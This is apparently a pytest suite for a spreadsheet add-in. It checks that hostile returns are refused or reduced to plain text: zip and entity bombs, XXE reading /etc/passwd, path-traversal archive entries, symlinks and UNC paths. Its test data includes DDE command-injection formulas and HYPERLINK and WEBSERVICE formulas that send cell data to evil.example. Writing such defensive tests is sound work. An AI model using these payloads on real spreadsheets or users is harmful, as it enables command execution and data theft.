"""Files made to harm: each is refused in a sentence, within bounded memory and time."""

from __future__ import annotations

import os
import re
import struct
import sys
import zipfile
from pathlib import Path
from xml.sax.saxutils import escape, unescape

import pytest
import xlrd
import xlsxwriter

from tests.hostile import refusal_of
from tests.support.hostile_files import (
    HARM,
    MEASURED,
    NOT_FOR_THEIR_SIZE,
    TIDY,
    bomb,
    cut_short,
    document,
    entities,
    external,
    many_parts,
    old_number,
    old_workbook,
    record,
    row,
    table,
    text,
    xlsx,
)
from tests.support.ready import OCCASION, ready_book, ready_bytes, refresh
from tests.support.sample_files import inject
from xl_addin import limits
from xl_addin.commands.check import check_book
from xl_addin.errors import ReturnRefused, WorkbookRefused
from xl_addin.excel import dataset_file
from xl_addin.excel.closed import ClosedBook
from xl_addin.layout import Settings
from xl_addin.sources import digest_of, read_grids, xls
from xl_addin.update import Row, SetRows, Update


@pytest.fixture
def book(tmp_path) -> Path:
    return ready_book(tmp_path)


@pytest.mark.parametrize("harm", HARM)
def test_a_return_made_to_harm_is_refused_and_nothing_is_changed(book, tmp_path, harm):
    before, path = book.read_bytes(), xlsx(tmp_path / "June.xlsx")
    harm(path)
    with pytest.raises(ReturnRefused, match=r"June\.xlsx"):
        refresh(book, path)
    assert book.read_bytes() == before
    assert not list(tmp_path.glob("* backups"))


@pytest.mark.parametrize("harm", [bomb, many_parts, entities, external, cut_short])
def test_a_workbook_made_to_harm_is_refused_and_nothing_is_changed(book, harm):
    harm(book)
    before = book.read_bytes()
    with pytest.raises(WorkbookRefused, match=r"Monthly Dataset\.xlsm"):
        refresh(book)
    assert book.read_bytes() == before


LINUX = pytest.mark.skipif(sys.platform != "linux", reason="memory is measured on Linux")
LARGER = "It is larger than any return needs"
MEMORY = 500
"""Megabytes; what is refused for its size takes no more than 200. The program takes some 30."""
SECONDS = 40
"""Ten at most were measured; a slower computer is no mistake, a file that takes minutes is one."""


@LINUX
@pytest.mark.parametrize(
    ("name", "make"),
    [(name, make) for name, makers in MEASURED.values() for make in makers],
    ids=lambda x: getattr(x, "__name__", x),
)
def test_a_hostile_return_is_refused_in_seconds_and_half_a_gigabyte(tmp_path, name, make):
    """By the processor's time, in the process apart and in our own together."""
    make(tmp_path / name)
    refusal = refusal_of(tmp_path / name)
    assert "June" in refusal.said, "it was taken"
    assert len(refusal.said) < 200_000
    is_large = make not in NOT_FOR_THEIR_SIZE
    assert not is_large or LARGER in " ".join(refusal.said.split())
    assert refusal.megabytes < (200 if is_large else MEMORY)
    assert refusal.seconds < SECONDS


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"Measure Ref,Month,Value\nM1,Jun 2015,58\x005\n", "not a text file"),
        ("Measure Ref,Month,Value\nМ1,Jun 2015,585\n".encode(), "М1"),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,=cmd|' /C calc'!A0\n", None),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,\xff\xfe\x00\n", "not a text file"),
        (b"Measure Ref,Month,Value\nM1,Jun 2015,caf" + b"\xe9\xc3\xa9\x81", "letters"),
    ],
    ids=["NUL", "Cyrillic ref", "DDE", "binary", "two encodings"],
)
def test_odd_text_is_refused_or_arrives_as_text(book, tmp_path, content, said):
    path = tmp_path / "June.csv"
    path.write_bytes(content)
    if said:
        with pytest.raises(ReturnRefused, match=said):
            refresh(book, path)
        return
    refresh(book, path)
    reasons = [row[6] for row in dataset_file.read(book).tables["History"].rows if row[6]]
    assert "=cmd|' /C calc'!A0" in reasons


@pytest.mark.parametrize(
    "text", ["=cmd|' /C calc'!A0", '=HYPERLINK("http://x")', "+1+1", "@SUM(1)"]
)
def test_formulas_in_notes_arrive_as_text(book, tmp_path, text):
    path = tmp_path / "June.csv"
    quoted = '"' + text.replace('"', '""') + '"'
    path.write_text(f"Measure Ref,Month,Value,Note\nM1,Jun 2015,585,{quoted}\n", encoding="utf-8")
    refresh(book, path)
    notes = dataset_file.read(book).tables["DataNotes"].rows
    assert text in [row[2] for row in notes]
    assert text.removeprefix("=") not in _formulas(book)


def _formulas(path: Path) -> str:
    """What all cells calculate, a line each."""
    with zipfile.ZipFile(path) as package:
        sheets = [n for n in package.namelist() if n.startswith("xl/worksheets/sheet")]
        written = [re.findall(rb"<f\b[^>]*>([^<]*)</f>", package.read(name)) for name in sheets]
    found = [unescape(formula.decode()) for sheet in written for formula in sheet]
    assert found
    return "\n".join(found)


SPREADSHEETS = [".xlsx", ".ods"]


def spreadsheet(path: Path, ref="M1", value="585", note="", month="Jun 2015") -> Path:
    """A return of one figure, all of it text."""
    if path.suffix == ".ods":
        words = [escape(word) for word in (ref, month, value, note)]
        return document(path, table(TIDY, row(*map(text, words))))
    return xlsx(path, (("Measure Ref", "Month", "Value", "Note"), (ref, month, value, note)))


@pytest.mark.parametrize("suffix", SPREADSHEETS)
@pytest.mark.parametrize("words", ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://x")', "+1+1"])
def test_formulas_in_the_texts_of_spreadsheets_arrive_as_text(book, tmp_path, suffix, words):
    refresh(book, spreadsheet(tmp_path / f"June{suffix}", note=words))
    assert words in [row[2] for row in dataset_file.read(book).tables["DataNotes"].rows]
    assert words.removeprefix("=") not in _formulas(book)


@pytest.mark.parametrize("suffix", SPREADSHEETS)
@pytest.mark.parametrize("ref", ["М1", "Μ1"], ids=["Cyrillic", "Greek"])
def test_a_ref_that_only_looks_like_one_is_refused_from_spreadsheets_too(
    book, tmp_path, suffix, ref
):
    before = book.read_bytes()
    with pytest.raises(ReturnRefused, match=r"row 2.*1"):
        refresh(book, spreadsheet(tmp_path / f"June{suffix}", ref=ref))
    assert book.read_bytes() == before


CALLS = [
    "=cmd|'/C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"585")',
    '=WEBSERVICE("http://evil.example")',
    "='\\\\evil\\share\\[x.xlsx]S'!A1",
]


@pytest.mark.parametrize("formula", CALLS)
def test_a_formula_that_would_call_another_program_counts_with_what_it_shows(
    book, tmp_path, formula
):
    path = tmp_path / "June.xlsx"
    with xlsxwriter.Workbook(path) as made:
        sheet = made.add_worksheet()
        sheet.write_row(0, 0, ("Measure Ref", "Month", "Value"))
        sheet.write_row(1, 0, ("M1", "Jun 2015"))
        sheet.write_formula(1, 2, formula, None, 585)
    assert read_grids(path).grids[0].rows[1] == ("M1", "Jun 2015", 585)
    refresh(book, path)
    with zipfile.ZipFile(book) as package:
        parts = [package.read(n) for n in package.namelist() if n.startswith("xl/worksheets/")]
    assert not any(b"evil" in data or b"calc'" in data for data in parts)


def test_a_link_to_another_program_in_an_opendocument_file_counts_with_what_it_shows(tmp_path):
    formula = "of:=DDE(&quot;cmd&quot;;&quot;/C calc&quot;;&quot;x&quot;)"
    called = f' table:formula="{formula}" office:string-value="585"'
    cells = (text("M1"), text("Jun 2015"), text("585", more=called), text(""))
    links = '<table:table-source xlink:href="http://evil.example/x.ods" xmlns:xlink="x"/>'
    path = document(tmp_path / "June.ods", table(links, TIDY, row(*cells)))
    assert read_grids(path).grids[0].rows[1][:3] == ("M1", "Jun 2015", "585")


@pytest.mark.parametrize(
    "head",
    [
        '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>',
        '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">',
    ],
    ids=["entities", "file", "address"],
)
def test_a_document_type_in_an_opendocument_file_is_refused(tmp_path, head):
    path = document(tmp_path / "June.ods", table(TIDY, row(text("M1"))), head)
    with pytest.raises(ReturnRefused, match="damaged or is not a spreadsheet"):
        read_grids(path)


def test_xlrd_works_out_names_by_the_function_that_is_taken_out_of_it():
    assert "evaluate_name_formula" in xlrd.book.Book.names_epilogue.__code__.co_names
    assert xlrd.book.evaluate_name_formula.__module__ == xls.__name__


def test_names_of_an_old_workbook_that_double_a_text_are_left_unread(tmp_path):
    """Each of forty names joins the one before to itself: 2 to the power of 40 letters."""
    names = [old_name(1, b"\x17\x01\x00x")]
    for number in range(1, 40):
        before = b"\x23" + struct.pack("<H", number) + bytes(2)
        names.append(old_name(number + 1, before + before + b"\x08"))
    cells = b"".join(old_number(0, column, 5.0) for column in range(3))
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([cells], tuple(names)))
    assert read_grids(path).grids[0].rows == ((5.0, 5.0, 5.0),)


def old_name(number: int, formula: bytes) -> bytes:
    name = b"\0N%02d" % number
    head = struct.pack("<HBBHHHBBBB", 0, 0, 3, len(formula), 0, 0, 0, 0, 0, 0)
    return record(0x18, head + name + formula)


def test_a_workbook_of_a_thousand_sheets_more_is_refused(tmp_path):
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([b""] * (limits.MOST_SHEETS + 1)))
    with pytest.raises(ReturnRefused, match="it has 1,001 sheets"):
        read_grids(path)


def test_an_old_workbook_with_a_password_is_refused(tmp_path):
    password = record(0x2F, struct.pack("<3H", 0, 1, 2))
    path = tmp_path / "June.xls"
    path.write_bytes(old_workbook([old_number(0, 0, 5.0)], (password,)))
    with pytest.raises(ReturnRefused, match="It is protected with a password"):
        read_grids(path)


def test_a_zip_with_a_password_is_refused(tmp_path):
    path = xlsx(tmp_path / "June.xlsx")
    data = bytearray(path.read_bytes())
    for start, at in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        found = data.find(start)
        while found >= 0:
            data[found + at] |= 1
            found = data.find(start, found + 1)
    path.write_bytes(data)
    with pytest.raises(ReturnRefused, match="It is protected with a password"):
        read_grids(path)


def test_names_in_a_document_that_lead_out_of_it_write_nothing(tmp_path):
    path = document(tmp_path / "June.ods", table(TIDY), **{"../evil.txt": b"x", "/tmp/e.txt": b"x"})
    before = set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())
    read_grids(path)
    assert set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir()) == before


def test_names_in_a_zip_that_lead_out_of_it_write_nothing_anywhere(book, tmp_path):
    path = xlsx(tmp_path / "June.xlsx")
    inject(path, {"../../evil.txt": b"x", "/tmp/evil.txt": b"x", "..\\evil.txt": b"x"}, {})
    before = set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())
    refresh(book, path)
    made = (set(tmp_path.rglob("*")) | set(tmp_path.parent.iterdir())) - before
    assert {p.name for p in made} <= {
        "Monthly Dataset backups",
        "Monthly Dataset 2026-07-03 09.30.00.xlsm",
        "backups.tsv",
    }


def test_a_link_in_a_folder_of_returns_is_left_out_and_said(book, tmp_path):
    folder = tmp_path / "returns"
    folder.mkdir()
    secret = tmp_path / "secret.csv"
    secret.write_text("Measure Ref,Month,Value\nM1,Jun 2015,585\n", encoding="utf-8")
    (folder / "a.csv").write_text("Measure Ref,Month,Value\nM1,Jun 2015,1\n", encoding="utf-8")
    (folder / "b.csv").symlink_to(secret)
    raw = read_grids(folder)
    assert [file.name for file in raw.files] == ["a.csv"]
    assert "b.csv: It was left out. It only points to a file elsewhere" in str(raw.warnings[0])


def test_links_that_lead_nowhere_or_round_in_a_folder_of_returns_are_not_followed(tmp_path):
    folder = tmp_path / "returns"
    folder.mkdir()
    (folder / "a.csv").write_text("Measure Ref,Month,Value\nM1,Jun 2015,1\n", encoding="utf-8")
    (folder / "b.csv").symlink_to(folder / "b.csv")
    (folder / "c.csv").symlink_to(tmp_path / "gone.csv")
    (folder / "d.csv").symlink_to(tmp_path)
    assert [file.name for file in read_grids(folder).files] == ["a.csv"]


def test_a_return_that_is_a_link_to_itself_is_refused(tmp_path):
    (tmp_path / "June.csv").symlink_to(tmp_path / "June.csv")
    with pytest.raises(ReturnRefused, match=r"June\.csv: It cannot be read"):
        read_grids(tmp_path / "June.csv")


@pytest.mark.skipif(not Path("/proc/self/maps").exists(), reason="no files of a size not told")
def test_a_file_that_says_it_is_empty_is_not_read_beyond_the_limit():
    assert Path("/proc/self/maps").stat().st_size == 0
    with pytest.raises(ReturnRefused, match="Largest return"):
        digest_of(Path("/proc/self/maps"), limits.Limits(size=100))


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no pipes")
def test_what_never_ends_is_not_read(book, tmp_path):
    os.mkfifo(tmp_path / "June.csv")
    with pytest.raises(ReturnRefused, match="neither a file nor a folder"):
        refresh(book, tmp_path / "June.csv")
    os.mkfifo(tmp_path / "book.xlsm")
    with pytest.raises(WorkbookRefused, match="This is no file"):
        ClosedBook(tmp_path / "book.xlsm").read()


@pytest.mark.parametrize(
    ("written", "server"),
    [
        (r"\\evil\share", "evil"),
        ("//evil/share/June.csv", "evil"),
        (r"\\evil@SSL\DavWWWRoot\June.csv", "evil@ssl"),
        (r"\\?\UNC\evil\share\June.csv", "?"),
        (r"\\.\pipe\June", "."),
        (r"\/evil\share", "evil"),
    ],
)
def test_a_workbook_does_not_send_us_to_another_computer(book, written, server):
    rows = dataset_file.read(book).tables["Settings"].rows
    at = [row[0] for row in rows].index(Settings.RETURN)
    kept = [Row((written if n == at else row[1],), n) for n, row in enumerate(rows)]
    dataset_file.apply(book, Update((SetRows("Settings", ("Value",), tuple(kept)),)))
    with pytest.raises(ReturnRefused, match=re.escape(f"another computer ({server})")):
        refresh(book, None)


def test_macros_and_links_in_a_return_are_never_run_or_followed(book, tmp_path):
    path = tmp_path / "June.xlsm"
    path.write_bytes(ready_bytes())
    link = (
        b'<Relationship Id="x9" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/externalLink" Target="http://evil.example/x" TargetMode="External"/>'
        b"</Relationships>"
    )
    rels = "xl/_rels/workbook.xml.rels"
    inject(path, {}, {rels: lambda data: data.replace(b"</Relationships>", link)})
    before = path.read_bytes()
    assert all(
        "evil" not in str(found.problem) for found in check_book(ClosedBook(book), OCCASION, path)
    )
    assert path.read_bytes() == before
